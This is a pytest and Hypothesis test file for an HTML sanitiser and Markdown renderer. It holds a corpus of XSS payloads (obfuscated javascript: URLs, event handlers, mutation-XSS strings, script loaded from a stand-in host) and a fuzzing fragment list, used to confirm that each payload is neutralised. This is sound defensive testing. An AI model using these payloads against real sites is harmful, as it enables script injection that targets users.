"""XSS corpus and property tests for the sanitiser and the Markdown pipeline."""

from __future__ import annotations

import re
import unicodedata
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from content import render_inline, render_markdown, sanitize_html

FORBIDDEN_ELEMENTS = frozenset(
    {"script", "style", "iframe", "object", "embed", "svg", "math", "form", "input", "meta", "base", "link",
     "noscript", "textarea", "button", "select", "frame", "frameset", "applet", "template", "video", "audio", "source"}
)
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "data", "xlink:href", "background", "poster", "srcset"})
_SCHEME_RE = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.\-]*):")


def _url_violation(value: str) -> str | None:
    if any(unicodedata.category(ch) == "Cf" for ch in value):
        return "invisible format character in URL"
    # As a browser's URL parser: drop tab/newline anywhere, C0 controls and space at the ends.
    url = re.sub(r"[\t\n\r]", "", value).strip("".join(map(chr, range(0x21))))
    match = _SCHEME_RE.match(url)
    if match and match.group(1).lower() not in SAFE_SCHEMES:
        return f"scheme {match.group(1)!r}"
    return None


class _Checker(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)  # attribute values arrive entity-decoded, as a browser sees them
        self.violations: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_ELEMENTS:
            self.violations.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.violations.append(f"<{tag} {name}>")
            elif name == "style":
                self.violations.append(f"<{tag} style>")
            elif name in URL_ATTRIBUTES:
                problem = _url_violation(value or "")
                if problem:
                    self.violations.append(f"<{tag} {name}={value!r}>: {problem}")

    handle_startendtag = handle_starttag


def violations(html: str) -> list[str]:
    """Everything in `html` that would let content run script or restyle/escape the page."""
    checker = _Checker()
    checker.feed(html)
    checker.close()
    return checker.violations


def unsanitised_markdown(source: str) -> str:
    """What render_markdown would return without the sanitiser, and without the engine's own
    URL filter and percent-encoding (so the corpus shows what nh3 alone must stop)."""
    md = MarkdownIt("commonmark").enable("table")
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    md.normalizeLink = lambda url: url  # type: ignore[method-assign]
    return md.render(source)


PAYLOADS = [
    # script and event handlers
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)//>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<div onmouseover=\"alert(1)\">hover</div>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<button onclick=alert(1)>x</button>",
    # URL schemes
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<a href="java\u200bscript:alert(1)">x</a>',
    '<a href="\u202ehttps://x.example">x</a>',
    '<a href="https://x.example/\u2060">x</a>',
    '<a href="\ufeffjavascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](data:image/svg+xml,%3Csvg%20onload%3Dalert(1)%3E)",
    "![x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    '[x](java\u200bscript:alert(1))',
    '[x]: javascript:alert(1)\n\n[link][x]',
    # mutation XSS and parser confusion
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<a title="x" href="https://ok.example" onmouseover="alert(1)">x</a>',
    '<img src="x" alt="a" style="position:fixed;top:0">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    # embedding and navigation
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<base href=javascript:alert(1)//>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<template><script>alert(1)</script></template>",
    "<applet code=x></applet>",
]


def test_corpus_is_large_enough() -> None:
    assert len(PAYLOADS) >= 50


@pytest.mark.parametrize("payload", PAYLOADS)
def test_checker_detects_each_payload_when_unsanitised(payload: str) -> None:
    # Proves the corpus and the checker bite: without sanitising, these tests would fail.
    assert violations(payload) or violations(unsanitised_markdown(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sanitize_html_neutralises_payload(payload: str) -> None:
    assert violations(sanitize_html(payload)) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_render_markdown_neutralises_payload(payload: str) -> None:
    assert violations(render_markdown(payload)) == []
    assert violations(render_inline(payload)) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sanitising_is_stable(payload: str) -> None:
    # Re-sanitising output must not uncover anything (no mutation on re-parse).
    once = sanitize_html(payload)
    assert violations(sanitize_html(once)) == []


def test_safe_content_survives() -> None:
    html = sanitize_html(
        '<p><a href="https://a.example" title="t">a</a> <a href="mailto:x@y.example">m</a> '
        '<a href="/courses/1">r</a> <img src="/media/abc.png" alt="图" width="10" height="20"></p>'
        '<table><tr><td colspan="2" align="center">x</td></tr></table><details><summary>s</summary>d</details>'
    )
    assert 'href="https://a.example"' in html and 'title="t"' in html
    assert 'href="mailto:x@y.example"' in html and 'href="/courses/1"' in html
    assert 'src="/media/abc.png"' in html and 'width="10"' in html
    assert 'colspan="2"' in html and 'align="center"' in html
    assert "<details><summary>s</summary>d</details>" in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_script_and_style_text_is_removed_not_shown() -> None:
    assert sanitize_html("a<script>alert(1)</script>b<style>p{}</style>c") == "abc"
    assert sanitize_html("a<!-- secret -->b") == "ab"


def test_urls_with_invisible_characters_are_dropped() -> None:
    for url in ("java\u200bscript:alert(1)", "\u202ehttps://x.example", "https://x.example/\u2064", "\ufeff/media/a.png"):
        html = sanitize_html(f'<a href="{url}">x</a><img src="{url}">')
        assert "href" not in html and "src" not in html, url


def test_classes_are_limited() -> None:
    assert sanitize_html('<code class="language-py hidden">x</code>') == '<code class="language-py">x</code>'
    assert sanitize_html('<div class="toc modal-backdrop">x</div>') == '<div class="toc">x</div>'
    assert sanitize_html('<p class="x"><span class="y">z</span></p>') == "<p><span>z</span></p>"


# Fragments that, glued together with random text, try to build payloads across
# Markdown and HTML boundaries.
_FRAGMENTS = sorted(
    {
        "<", ">", "</", "/>", '"', "'", "`", "=", "&#", ";", "&colon;", "(", ")", "[", "]", "!", "\n", "\n\n", "    ",
        "```", "|", "-", "<script>", "</script>", "<img src=x ", "onerror=alert(1)", "<svg", "<math>", "<style>",
        "<a href=", "javascript:", "java\tscript:", "java\u200bscript:", "&#106;", "data:text/html,", "vbscript:",
        "<iframe", "<noscript>", "</noscript>", "<p title=\"", "<!--", "-->", "<![CDATA[", "]]>", "style=", "onload=",
        "](", "![x](", "<form", "<input", "<meta http-equiv=refresh content=0;url=", "<base href=", "<object data=",
        "<embed src=", "<textarea>", "<template>", "<mglyph>", "<mtext>", "<table>", "\u202e", "\ufeff", "\x00",
    }
    | set(PAYLOADS)
)
_DOCUMENTS = st.lists(st.one_of(st.sampled_from(_FRAGMENTS), st.text(max_size=8)), max_size=12).map("".join)


@settings(max_examples=2000, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
@given(_DOCUMENTS)
def test_render_markdown_output_is_always_safe(source: str) -> None:
    assert violations(render_markdown(source)) == []


@settings(max_examples=500, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
@given(_DOCUMENTS)
def test_sanitize_html_output_is_always_safe(source: str) -> None:
    assert violations(sanitize_html(source)) == []
